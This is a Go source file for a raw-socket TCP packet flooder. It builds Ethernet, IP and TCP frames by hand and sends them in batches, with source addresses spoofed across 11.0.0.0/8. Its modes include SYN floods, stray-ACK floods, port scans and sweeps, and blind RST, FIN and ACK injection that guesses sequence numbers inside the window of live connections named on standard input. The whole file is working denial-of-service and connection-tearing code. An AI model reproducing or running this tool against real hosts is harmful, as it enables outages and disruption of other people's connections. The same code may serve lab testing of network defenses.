package main

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"log"
	"math/rand"
	"net"
	"os"
	"runtime"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

// sendmmsg(2) by architecture: the syscall package does not name it.
var sendmmsg = map[string]uintptr{"amd64": 307, "arm64": 269}[runtime.GOARCH]

const (
	batch        = 64
	headersLen   = 14 + 20 + 20
	solPacket    = 263
	qdiscBypass  = 20
	fin, syn     = 0x01, 0x02
	rst, ack     = 0x04, 0x10
	etherTypeIP4 = 0x0800
)

// A flooder makes segments up and sends them from an interface.
type flooder struct {
	descriptor int
	frames     [batch][headersLen]byte
	vectors    [batch]syscall.Iovec
	messages   [batch]struct {
		header syscall.Msghdr
		sent   uint32
		_      [4]byte
	}
	random *rand.Rand
	// Guesses hit the window.
	isInside bool
}

// flood sends `count` segments of a kind, at most `rate` a second if that is above 0, and prints how many went and how
// long it took. Kinds: syn (each from another address), stray (the same with data of connections that never were), scan
// (a SYN to each port), sweep (the same, each from another address), rst, fin and ack (blind guesses into the connections
// that standard input names, a line each: the client's address:port, and what it sends next and its peer's window if
// those are known), rst-inside, fin-inside and ack-inside (the same within that window, and not at its edge).
func flood(kind, device, to, links string, count, rate int) {
	if sendmmsg == 0 {
		log.Fatal("flood: not on ", runtime.GOARCH)
	}
	target, err := net.ResolveTCPAddr("tcp4", to)
	if err != nil {
		log.Fatal(err)
	}
	kind, place, _ := strings.Cut(kind, "-")
	var clients []client
	if kind == "rst" || kind == "fin" || kind == "ack" {
		clients = readClients()
	}
	f := newFlooder(device, links)
	f.isInside = place == "inside"
	started := time.Now()
	sent := 0
	for sent < count {
		size := batch
		if count-sent < size {
			size = count - sent
		}
		for i := 0; i < size; i++ {
			f.fill(&f.frames[i], kind, sent+i, target, clients)
		}
		sent += f.send(size)
		if rate > 0 {
			time.Sleep(time.Until(started.Add(time.Duration(float64(sent) / float64(rate) * 1e9))))
		}
	}
	fmt.Printf("%d %.3f\n", sent, time.Since(started).Seconds())
}

// A client whose connection is guessed into.
type client struct {
	source       uint32
	port         uint16
	next, window uint32
}

func readClients() []client {
	var clients []client
	lines := bufio.NewScanner(os.Stdin)
	for lines.Scan() {
		var name string
		var known client
		if found, err := fmt.Sscan(lines.Text(), &name, &known.next, &known.window); found == 0 {
			log.Fatal(err)
		}
		address, err := net.ResolveTCPAddr("tcp4", name)
		if err != nil {
			log.Fatal(err)
		}
		known.source, known.port = binary.BigEndian.Uint32(address.IP.To4()), uint16(address.Port)
		clients = append(clients, known)
	}
	return clients
}

// newFlooder opens the interface; `links` are the link-layer addresses of the target and of the sender, "02:…,02:…".
func newFlooder(device, links string) *flooder {
	f := &flooder{random: rand.New(rand.NewSource(1))}
	found, err := net.InterfaceByName(device)
	if err != nil {
		log.Fatal(err)
	}
	if f.descriptor, err = syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, 0); err != nil {
		log.Fatal(err)
	}
	syscall.SetsockoptInt(f.descriptor, solPacket, qdiscBypass, 1)
	if err := syscall.Bind(f.descriptor, &syscall.SockaddrLinklayer{Ifindex: found.Index}); err != nil {
		log.Fatal(err)
	}
	for i := range f.frames {
		for at, link := range strings.Split(links, ",") {
			hardware, err := net.ParseMAC(link)
			if err != nil {
				log.Fatal(err)
			}
			copy(f.frames[i][at*6:], hardware)
		}
		binary.BigEndian.PutUint16(f.frames[i][12:], etherTypeIP4)
		f.vectors[i] = syscall.Iovec{Base: &f.frames[i][0], Len: headersLen}
		f.messages[i].header.Iov = &f.vectors[i]
		f.messages[i].header.Iovlen = 1
	}
	return f
}

func (f *flooder) fill(frame *[headersLen]byte, kind string, number int, target *net.TCPAddr, clients []client) {
	source, sourcePort, port := scattered(number), uint16(1024+number%60000), uint16(target.Port)
	flags, sequence, acknowledges := byte(syn), f.random.Uint32(), uint32(0)
	switch kind {
	case "scan":
		source, sourcePort, port = 0x0a4d0001, 40000, uint16(1+number%65535)
	case "sweep":
		port = uint16(1 + number%65535)
	case "stray":
		flags, acknowledges = ack, f.random.Uint32()
	case "rst", "fin", "ack":
		client := clients[number%len(clients)]
		source, sourcePort = client.source, client.port
		if f.isInside {
			sequence = client.next + 1 + f.random.Uint32()%(client.window-1)
		}
		flags = map[string]byte{"rst": rst, "fin": fin | ack, "ack": ack}[kind]
		acknowledges = f.random.Uint32()
	}
	ip, tcp := frame[14:34], frame[34:]
	copy(ip, []byte{0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0})
	binary.BigEndian.PutUint32(ip[12:], source)
	copy(ip[16:20], target.IP.To4())
	binary.BigEndian.PutUint16(ip[10:], checksum(ip, 0))
	binary.BigEndian.PutUint16(tcp, sourcePort)
	binary.BigEndian.PutUint16(tcp[2:], port)
	binary.BigEndian.PutUint32(tcp[4:], sequence)
	binary.BigEndian.PutUint32(tcp[8:], acknowledges)
	copy(tcp[12:20], []byte{0x50, flags, 0xfd, 0xe8, 0, 0, 0, 0})
	pseudo := uint32(6+20) + sum(ip[12:20])
	binary.BigEndian.PutUint16(tcp[16:], checksum(tcp, pseudo))
}

// scattered gives each number below 16 million another address of 11.0.0.0/8, in no order.
func scattered(number int) uint32 {
	return 0x0b000000 | uint32(number)*0x9e3779b1&0xffffff
}

func sum(octets []byte) uint32 {
	total := uint32(0)
	for at := 0; at < len(octets); at += 2 {
		total += uint32(binary.BigEndian.Uint16(octets[at:]))
	}
	return total
}

func checksum(octets []byte, total uint32) uint16 {
	total += sum(octets)
	for total>>16 != 0 {
		total = total&0xffff + total>>16
	}
	return ^uint16(total)
}

func (f *flooder) send(size int) int {
	done := 0
	for done < size {
		first := uintptr(unsafe.Pointer(&f.messages[done]))
		count, _, errno := syscall.Syscall6(sendmmsg, uintptr(f.descriptor), first, uintptr(size-done), 0, 0, 0)
		if errno == syscall.ENOBUFS || errno == syscall.EAGAIN || errno == syscall.EINTR {
			continue
		}
		if errno != 0 {
			log.Fatal("sendmmsg: ", errno)
		}
		done += int(count)
	}
	return done
}
